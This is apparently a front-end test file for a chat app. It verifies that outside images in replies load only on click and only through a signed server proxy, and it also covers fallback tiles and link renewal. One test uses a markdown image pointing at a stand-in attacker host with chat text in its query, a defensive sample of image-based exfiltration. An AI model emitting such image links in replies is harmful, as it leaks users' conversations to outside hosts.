import { act, fireEvent, render, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { BusinessCards } from '../chat/tools/business-card';
import { SearchResultsCard } from '../chat/tools/search-results-card';
import { VideoTile } from '../chat/tools/video-tile';
import { useAppStore } from '../store/app-store';
import { Markdown } from './markdown';
import { linkExpiry, proxiedImage } from './outside-image';

/** N4: no image request leaves for an outside host except through the server's proxy. */
describe('outside images in replies', () => {
  const fetchMock = vi.fn();
  beforeEach(() => {
    fetchMock.mockReset();
    fetchMock.mockImplementation(async (_url: string, init: RequestInit) => {
      const { urls } = JSON.parse(String(init.body)) as { urls: string[] };
      return new Response(
        JSON.stringify({ links: urls.map((u) => `/api/media/image?url=${encodeURIComponent(u)}&signature=sig`) }),
        { status: 200, headers: { 'content-type': 'application/json' } },
      );
    });
    vi.stubGlobal('fetch', fetchMock);
  });
  afterEach(() => vi.unstubAllGlobals());

  const outsideImgs = (container: HTMLElement) =>
    [...container.querySelectorAll('img')].filter((img) => !img.src.startsWith(`${window.location.origin}/`));

  it('should not load a markdown image from an outside host until clicked, then only through the proxy', async () => {
    const { container, getByTestId } = render(
      <Markdown>{'Here: ![chart](https://evil.example/p.png?q=the%20secret%20chat)'}</Markdown>,
    );
    expect(container.querySelector('img')).toBeNull();
    const button = getByTestId('outside-image');
    expect(button.textContent).toContain('evil.example');
    // Effects and pending promises flushed: a load on render would have started by now.
    await act(async () => {});
    expect(fetchMock).not.toHaveBeenCalled();

    fireEvent.click(button);
    await waitFor(() => expect(container.querySelector('img')).not.toBeNull());
    expect(fetchMock).toHaveBeenCalledTimes(1);
    expect(String(fetchMock.mock.calls[0]?.[0])).toMatch(/\/media\/image-links$/);
    const img = container.querySelector('img') as HTMLImageElement;
    expect(img.src).toBe(
      `${window.location.origin}/api/media/image?url=${encodeURIComponent('https://evil.example/p.png?q=the%20secret%20chat')}&signature=sig`,
    );
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(outsideImgs(container)).toEqual([]);
  });

  it('should show a tile that says so, not a broken image, when a loaded markdown image fails', async () => {
    const { container, getByTestId } = render(<Markdown>{'![the chart](https://img.example/gone.png)'}</Markdown>);
    fireEvent.click(getByTestId('outside-image'));
    await waitFor(() => expect(container.querySelector('img')).not.toBeNull());
    fireEvent.error(container.querySelector('img') as HTMLImageElement);
    const tile = getByTestId('image-failed');
    expect(tile.getAttribute('aria-label')).toBe('Image could not be loaded: “the chart”');
    expect(container.querySelector('img')).toBeNull();
  });

  it('should show our own images as they are', () => {
    const { container } = render(<Markdown>{'![mine](/api/files/abc?expires=1&signature=x)'}</Markdown>);
    expect(container.querySelector('img')?.getAttribute('src')).toBe('/api/files/abc?expires=1&signature=x');
    expect(fetchMock).not.toHaveBeenCalled();
  });

  it('should load tool favicons through the proxy only', async () => {
    const { container } = render(
      <SearchResultsCard results={[{ title: 'A', url: 'https://a.example/page', snippet: 's' }]} />,
    );
    await waitFor(() => expect(container.querySelector('img')).not.toBeNull());
    expect(container.querySelector('img')?.getAttribute('src')).toContain('/api/media/image?url=');
    expect(outsideImgs(container)).toEqual([]);
  });

  it('should show a fallback tile of the same size instead of a broken business or video thumbnail', async () => {
    const { container, getAllByTestId } = render(
      <>
        <BusinessCards
          businesses={[
            {
              name: 'Cafe',
              rating: 4,
              reviewCount: 3,
              address: '1 Road',
              url: 'https://b.example/c',
              imageUrl: 'https://img.example/c.jpg',
            },
          ]}
        />
        <VideoTile
          video={{
            title: 'Clip',
            url: 'https://www.youtube.com/watch?v=abcdefghijk',
            provider: 'youtube',
            thumbnail: 'https://img.example/v.jpg',
          }}
        />
      </>,
    );
    await waitFor(() => expect(container.querySelectorAll('img')).toHaveLength(2));
    for (const img of container.querySelectorAll('img')) fireEvent.error(img);
    expect(container.querySelectorAll('img')).toHaveLength(0);
    const tiles = getAllByTestId('thumbnail-fallback');
    expect(tiles).toHaveLength(2);
    expect(tiles[0]?.className).toContain('h-14 w-14');
    expect(tiles[1]?.className).toContain('h-full w-full');
    for (const tile of tiles) expect(tile.getAttribute('aria-hidden')).toBe('true');
  });

  it('should ask again for a link about to expire, and for a link of another session (issue #40)', async () => {
    // Links that work for 10 minutes.
    fetchMock.mockImplementation(async (_url: string, init: RequestInit) => {
      const { urls } = JSON.parse(String(init.body)) as { urls: string[] };
      const expires = Math.floor(Date.now() / 1000) + 600;
      return new Response(
        JSON.stringify({
          links: urls.map((u) => `/api/media/image?url=${encodeURIComponent(u)}&expires=${expires}&signature=sig`),
        }),
        { status: 200, headers: { 'content-type': 'application/json' } },
      );
    });
    useAppStore.setState({ token: 'session-a' });
    const url = 'https://img.example/renew.png';
    const first = await proxiedImage(url);
    expect(linkExpiry(first as string)).toBeGreaterThan(Date.now());
    expect(await proxiedImage(url)).toBe(first);
    expect(fetchMock).toHaveBeenCalledTimes(1);

    // 6 minutes on: within 5 minutes of its expiry, so it is asked again.
    const now = Date.now();
    const clock = vi.spyOn(Date, 'now').mockReturnValue(now + 6 * 60_000);
    try {
      await proxiedImage(url);
      expect(fetchMock).toHaveBeenCalledTimes(2);
      await proxiedImage(url);
      expect(fetchMock).toHaveBeenCalledTimes(2);
    } finally {
      clock.mockRestore();
    }

    // Signed in again (another session): its own link.
    useAppStore.setState({ token: 'session-b' });
    await proxiedImage(url);
    expect(fetchMock).toHaveBeenCalledTimes(3);
    expect(String(fetchMock.mock.calls[2]?.[1]?.headers?.Authorization)).toBe('Bearer session-b');
    useAppStore.setState({ token: null });
  });
});
